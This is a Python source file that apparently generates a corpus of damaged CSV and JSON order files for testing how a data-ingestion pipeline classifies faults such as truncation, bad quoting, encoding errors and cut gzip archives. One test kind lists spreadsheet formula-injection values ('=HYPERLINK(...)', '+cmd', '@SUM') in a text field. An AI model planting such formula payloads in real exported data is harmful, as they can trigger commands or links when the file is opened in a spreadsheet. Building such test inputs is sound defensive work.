        "=HYPERLINK(...), +cmd, @SUM, -2+3, tab and CR before '=' in a text field (valid data)",
        [*records.good(2), *entries, *records.good(2)],
    )


def _csv_quoted(row: list[str]) -> bytes:
    return csv_line(row).encode()


def _escapes_kind(number: int) -> FaultKind:
    records = _Records("json", number)
    entries = records.good(2)
    for city in ("K\\u00f6ln", "Köln", "\\ud83c\\udf55 Pizza", "🍕 Pizza", 'Say \\"hi\\" \\\\ \\/ \\b\\f\\t'):
        text = _dumps(records.obj())
        entries.append(
            _Entry(re.sub(r'"city":"[^"]*"', lambda _, c=city: f'"city":"{c}"', text).encode(), VALID)
        )
    entries += records.good(2)
    return _lines_kind(
        "json_escapes_and_unicode", "json", "escaped and raw non-ASCII text (all valid)", entries
    )


# --- CSV kinds ----------------------------------------------------------------------------------------


def _csv_kinds() -> list[FaultKind]:
    kinds: list[FaultKind] = []
    add = kinds.append
    c: Format = "csv"

    def cells(records: _Records, index: int, value: str) -> str:
        row = records.row()
        row[index] = value
        return csv_line(row)

    add(
        _damaged(
            "csv_truncated_row",
            c,
            1,
            "a row cut after its fifth field",
            lambda r: [(csv_line(r.row()[:5]), "missing_columns")],
        )
    )
    add(_csv_truncated_file())
    add(
        _damaged(
            "csv_unbalanced_quote",
            c,
            3,
            "a quoted field that never closes",
            lambda r: [
                (
                    f'{r.row()[0]},"Unbalanced quote,2,9.50,,card,completed,+49-170-0000001,'
                    "2026-11-28 10:00:00",
                    "malformed_csv",
                )
            ],
        )
    )
    add(_csv_wrong_delimiter_file())
    add(
        _damaged(
            "csv_wrong_delimiter_rows",
            c,
            5,
            "rows written with ';' and with tabs",
            lambda r: [
                (";".join(_plain(x) for x in r.row()), "missing_columns"),
                ("\t".join(_plain(x) for x in r.row()), "missing_columns"),
            ],
        )
    )
    add(
        _damaged(
            "csv_extra_columns",
            c,
            6,
            "one and three fields too many",
            lambda r: [(r.line() + ",EXTRA", "extra_columns"), (r.line() + ",a,b,c", "extra_columns")],
        )
    )
    add(
        _damaged(
            "csv_missing_columns",
            c,
            7,
            "one field too few, a single field",
            lambda r: [
                (",".join(csv_line([x]) for x in r.row()[:-1]), "missing_columns"),
                (r.row()[0], "missing_columns"),
            ],
        )
    )
    add(_csv_bom_crlf())
    add(_mixed_line_ends(c, 9))
    add(
        _damaged(
            "csv_nul_bytes",
            c,
            10,
            "a NUL byte inside a field and as a whole field",
            lambda r: [
                (cells(r, 1, "Fal\x00afel"), "encoding_error"),
                (cells(r, 4, "\x00"), "encoding_error"),
            ],
        )
    )
    add(_csv_long_valid())
    add(
        _damaged(
            "csv_numbers_beyond_range",
            c,
            12,
            "integers and decimals that do not fit their type",
            lambda r: [
                (cells(r, 2, "99999999999"), "type_mismatch"),
                (cells(r, 3, "123456789.00"), "type_mismatch"),
                (cells(r, 2, "51"), "constraint_violation"),
                (cells(r, 3, "-0.01"), "constraint_violation"),
            ],
        )
    )
    add(
        _damaged(
            "csv_over_precise_decimals",
            c,
            13,
            "more decimal places than the scale, an exponent",
            lambda r: [(cells(r, 3, "25.678"), "type_mismatch"), (cells(r, 3, "1e1"), "type_mismatch")],
        )
    )
    add(_replace_data(_lines_kind("csv_empty_file", c, "a file of zero bytes", []), b""))
    add(_lines_kind("csv_header_only", c, "the header and nothing else", []))
    add(
        _damaged(
            "csv_whitespace_lines",
            c,
            15,
            "lines of spaces and tabs between rows",
            lambda r: [(b"   ", BLANK), (b"\t \t", BLANK)],
        )
    )
    add(
        _damaged("csv_empty_lines", c, 16, "empty lines between rows", lambda r: [(b"", BLANK), (b"", BLANK)])
    )
    records = _Records(c, 17)
    text = MEALDASH_HEADER + "\n" + "".join(e.raw.decode() + "\n" for e in records.good(40))
    whole = _gzip(text.encode())
    add(
        _file_kind(
            "csv_cut_gzip", c, "a gzip file cut in half", "csv_cut_gzip.csv.gz", whole[: len(whole) // 2]
        )
    )
    add(_concatenated_gzip(c, 18))
    add(_file_kind("csv_binary_garbage", c, "random bytes", "csv_binary_garbage.csv", _garbage(19)))
    add(_csv_multiline_field())
    add(_formula_injection(c, 21))
    add(
        _damaged(
            "csv_rfc4180_quote_violations",
            c,
            22,
            "text after a closing quote, a quote in an unquoted field",
            lambda r: [
                (cells(r, 1, "X").replace(",X,", ',"Fal"afel,', 1), "malformed_quoting"),
                (cells(r, 1, "X").replace(",X,", ',Fal"afel,', 1), "malformed_quoting"),
                (cells(r, 1, "X").replace(",X,", ', "Falafel" ,', 1), "malformed_quoting"),
            ],
        )
    )
    add(
        _damaged(
            "csv_windows_1252_bytes",
            c,
            23,
            "Windows-1252 bytes (0xE4, 0x80) in a field",
            lambda r: [
                (cells(r, 1, "K\x00se").encode().replace(b"\x00", b"\xe4"), "encoding_error"),
                (cells(r, 1, "X").encode().replace(b",X,", b",5 \x80,"), "encoding_error"),
            ],
        )
    )
    records = _Records(c, 24)
    add(
        _file_kind(
            "csv_utf16_bom",
            c,
            "UTF-16LE with a BOM where the contract says UTF-8",
            "csv_utf16_bom.csv",
            b"\xff\xfe"
            + (MEALDASH_HEADER + "\n" + "".join(e.raw.decode() + "\n" for e in records.good(6))).encode(
                "utf-16-le"
            ),
        )
    )
    add(
        _damaged(
            "csv_too_many_columns",
            c,
            25,
            f"a line of {TOO_MANY_COLUMNS} fields (above the column cap)",
            lambda r: [("," * (TOO_MANY_COLUMNS - 1), "too_many_columns")],
        )
    )
    add(
        _damaged(
            "csv_regex_anchor_line_separator",
            c,
            26,
            "an order id followed by U+0085 or U+2028",
            lambda r: [
                (cells(r, 0, "MD2600001\u0085"), "constraint_violation"),
                (cells(r, 0, "MD2600002\u2028"), "constraint_violation"),
            ],
        )
    )
    add(
        _damaged(
            "csv_doubled_quotes",
            c,
            27,
            "RFC 4180 doubled quotes and quoted delimiters (valid)",
            lambda r: [(cells(r, 1, 'Burger "Deluxe", extra ""cheese""'), VALID)],
        )
    )
    add(_csv_missing_header())
    return kinds


def _plain(cell: str) -> str:
    """A cell without the characters that would need quoting."""
    return cell.replace(",", " ").replace('"', "")


def _csv_truncated_file() -> FaultKind:
    records = _Records("csv", 2)
    cut = _Entry(csv_line(records.row()[:6]).encode(), "missing_columns")
    return _lines_kind(
        "csv_truncated_file",
        "csv",
        "the last row cut after a field, no final newline",
        [*records.good(8), cut],
        final_end=False,
    )


def _csv_wrong_delimiter_file() -> FaultKind:
    """A file written with ';': the header shows it, the whole file is a structural change."""
    records = _Records("csv", 4)
    rows = [";".join(x.replace(";", ",") for x in records.row()) for _ in range(8)]
    header = MEALDASH_HEADER.replace(",", ";")
    entries = [_Entry(r.encode(), "structural_change") for r in rows]
    kind = _lines_kind(
        "csv_wrong_delimiter_file",
        "csv",
        "the whole file written with ';'",
        entries,
        verdict="structural_change",
    )
    return _replace_data(kind, (header + "\n" + "".join(r + "\n" for r in rows)).encode())


def _csv_missing_header() -> FaultKind:
    """The header line is missing: the first row is read as a header, so the file is a structural change.

    The first row is taken for the header: it is not a record (it is kept in the quarantined file).
    """
    records = _Records("csv", 28)
    rows = [records.line() for _ in range(6)]
    entries = [_Entry(r.encode(), "structural_change") for r in rows[1:]]
    kind = _lines_kind(
        "csv_missing_header",
        "csv",
        "no header line: the first row is taken for one",
        entries,
        verdict="structural_change",
    )
    return _replace_data(kind, "".join(r + "\n" for r in rows).encode())


def _csv_bom_crlf() -> FaultKind:
    records = _Records("csv", 8)
    entries = records.good(6)
    for e in entries:
        e.end = b"\r\n"
    kind = _lines_kind(
        "csv_bom_crlf", "csv", "a UTF-8 BOM and CRLF line ends", entries, prefix=b"\xef\xbb\xbf"
    )
    header = b"\xef\xbb\xbf" + MEALDASH_HEADER.encode()
    return _replace_data(kind, header + b"\r\n" + b"".join(e.raw + b"\r\n" for e in entries))


def _csv_long_valid() -> FaultKind:
    records = _Records("csv", 11)
    row = records.row()
    row[1] = "Pizza, " + "ü" * (LONG_BYTES // 2) + ' "XXL"'
    entries = [*records.good(2), _Entry(csv_line(row).encode(), VALID), *records.good(2)]
    return _lines_kind(
        "csv_very_long_valid_line", "csv", "a valid row with a 1 MiB quoted menu name", entries
    )


def _csv_multiline_field() -> FaultKind:
    """A quoted field with a line break: the line reader cuts the record in two, both halves dead letters."""
    records = _Records("csv", 20)
    row = records.row()
    row[1] = "Sushi\n12 pcs"
    first, second = csv_line(row).split("\n")
    bad = [_Entry(first.encode(), "malformed_csv"), _Entry(second.encode(), "malformed_csv")]
    entries = [*records.good(12), *bad, *records.good(4)]
    return _lines_kind(
        "csv_multiline_quoted_field",
        "csv",
        "a quoted field holding a line break (cut in two by the line reader)",
        entries,
    )


def csv_unreadable_times() -> FaultKind:
    """Times that Spark's new parser refuses and its legacy parser would read (the run must not fail).

    Kept out of :func:`corpus`: today such a value fails the whole run (``SparkUpgradeException``), which
    would hide every other kind of the one shared run.
    """

    def with_time(records: _Records, value: str) -> str:
        row = records.row()
        row[8] = value
        return csv_line(row)

    return _damaged(
        "csv_unreadable_times",
        "csv",
        40,
        "an hour of one digit, a blank after the seconds, a fraction of a second",
        lambda r: [
            (with_time(r, "2026-11-28 1:00:00"), "type_mismatch"),
            (with_time(r, "2026-11-28 10:00:00 "), "type_mismatch"),
            (with_time(r, "2026-11-28 10:00:00.5"), "type_mismatch"),
        ],
    )


def corpus(fmt: Format) -> list[FaultKind]:
    """Every kind of damage for one format, each a file with the accounting it must produce."""
    kinds = _json_kinds() if fmt == "json" else _csv_kinds()
    names = [k.name for k in kinds]
    assert len(names) == len(set(names)), names
    return kinds


def write_corpus(folder: Path, kinds: Iterable[FaultKind]) -> dict[str, FaultKind]:
    """Write each kind's file into ``folder``; return the kinds by file name."""
    folder.mkdir(parents=True, exist_ok=True)
    written = {}
    for kind in kinds:
        (folder / kind.file_name).write_bytes(kind.data)
        written[kind.file_name] = kind
    return written
